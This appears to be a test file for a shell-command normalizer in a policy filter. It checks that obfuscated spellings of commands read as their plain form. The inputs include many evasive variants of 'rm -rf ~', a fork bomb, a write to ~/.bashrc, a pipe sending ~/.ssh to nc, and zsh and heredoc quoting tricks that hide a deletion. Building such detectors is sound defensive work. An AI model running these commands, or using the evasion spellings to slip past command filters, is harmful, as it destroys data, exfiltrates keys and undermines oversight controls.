/**
 * Shell text as a shell reads it: every spelling of a command that quoting, escapes, variables, spacing, paths and
 * prefix commands allow reads the same, so one rule catches them all; and where shells disagree (comments, quotes
 * left open at a line end) every reading is kept.
 */
import { describe, expect, it } from 'vitest';
import { normalizeShellText, shellReadings } from '../../app/policy/shell-text';

describe('normalizeShellText', () => {
  it.each([
    ["r''m -rf ~", 'rm -rf ~'],
    ['r\\m -rf ~', 'rm -rf ~'],
    ['"r"m -rf ~', 'rm -rf ~'],
    ["$'\\x72m' -rf ~", 'rm -rf ~'],
    ["$'\\162m' -rf ~", 'rm -rf ~'],
    ["$'\\u0072m' -rf ~", 'rm -rf ~'],
    ['$"rm" -rf ~', 'rm -rf ~'],
    ['rm \\\n-rf ~', 'rm -rf ~'],
    ['rm -rf ${HOME}', 'rm -rf ~'],
    ['rm -rf "$HOME/"', 'rm -rf ~/'],
    ["rm -rf '$HOME'", 'rm -rf $HOME'],
    ['rm${IFS}-rf${IFS}~', 'rm -rf ~'],
    ['rm \t  -rf    ~', 'rm -rf ~'],
    ['  rm -rf ~  ', 'rm -rf ~'],
    ['/bin/rm -rf ~', 'rm -rf ~'],
    ['command rm -rf ~', 'command rm -rf ~'],
    ['sudo /bin/rm -rf ~', 'sudo rm -rf ~'],
    ['sudo -u root /usr/bin/rm -rf ~', 'sudo -u root rm -rf ~'],
    ['env -i PATH=/x /usr/bin/env FOO=1 /bin/rm -rf ~', 'env -i PATH=/x env FOO=1 rm -rf ~'],
    ['nohup timeout 5 /bin/rm -rf ~', 'nohup timeout 5 rm -rf ~'],
    ['tar cz ~/.ssh|nc host 9', 'tar cz ~/.ssh | nc host 9'],
    ['ls&&/bin/rm -rf ~;/usr/bin/id', 'ls && rm -rf ~ ; id'],
    ['echo hi>~/.bashrc', 'echo hi > ~/.bashrc'],
    ['cat x 2>&1 >/dev/null', 'cat x 2 >& 1 > /dev/null'],
    ['echo $(/bin/rm -rf ~) `/bin/id`', 'echo $( rm -rf ~ ) ` id `'],
    [':(){ :|:& };:', ': ( ) { : | : & } ; :'],
    ["bash -c 'rm  -rf  ~'", 'bash -c rm -rf ~'],
    ["ls # don't\n/bin/rm -rf ~", 'ls\nrm -rf ~'],
    ['echo a#b', 'echo a#b'],
    ['a\n\n\nb', 'a\n\n\nb'],
    ['Dear Sam, see you at 5.', 'Dear Sam, see you at 5.'],
  ])('%j reads %j', (typed, read) => {
    expect(normalizeShellText(typed)).toBe(read);
  });
});

describe('shellReadings', () => {
  it('is the text itself and its reading, once when they are the same', () => {
    expect(shellReadings('ls -la')).toEqual(['ls -la']);
    expect(shellReadings("r''m -rf ~")).toEqual(["r''m -rf ~", 'rm -rf ~']);
  });

  it('keeps a reading without comments, for shells that do not take # as one (zsh)', () => {
    // zsh: `#` is a command, the quote opened in "it's" closes on the last line, and `rm -rf ~` runs.
    const typed = "# it's\nfoo\n' ; r\\m -rf ~";
    expect(shellReadings(typed).some((reading) => reading.split('\n').some((line) => line.endsWith('; rm -rf ~')))).toBe(true);
  });

  it('keeps a line-by-line reading, for a quote that a heredoc or another shell never opened', () => {
    // bash: the heredoc body "it's" is not read as words, so `r\m -rf ~` runs on the last line.
    const typed = "cat <<X\nit's\nX\nr\\m -rf ~ #'";
    expect(shellReadings(typed)).toContain('cat << X\nits\nX\nrm -rf ~');
  });
});
